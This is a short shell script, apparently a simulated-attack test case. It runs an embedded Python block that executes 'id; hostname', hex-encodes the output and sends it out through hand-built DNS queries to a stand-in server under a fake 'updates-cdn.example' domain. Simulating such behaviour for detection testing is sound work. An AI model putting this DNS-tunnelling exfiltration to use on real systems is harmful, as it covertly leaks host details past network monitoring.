#!/bin/sh
. /opt/case/case.sh

python3 - <<'END'
import os, random, socket, struct, time
def ask(n):
    q = struct.pack(">6H", random.randrange(65536), 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in n.split(".")) + b"\0" + struct.pack(">2H", 16, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(q, ("203.0.113.53", 53)); return s.recv(600)
for n in range(40):
    out = os.popen("id; hostname").read().encode().hex()[:50]
    assert b"AAAA" in ask(f"{n:04x}{random.randrange(1 << 16):04x}.{out}.c.updates-cdn.example"); time.sleep(0.1)
END
took_place
